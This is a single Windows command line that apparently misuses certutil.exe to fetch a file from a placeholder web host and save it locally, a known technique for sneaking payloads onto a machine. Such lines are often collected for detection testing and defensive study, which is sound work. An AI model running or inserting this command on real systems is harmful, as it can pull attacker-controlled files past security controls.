certutil.exe -urlcache -f http://files.example/a.txt a.txt
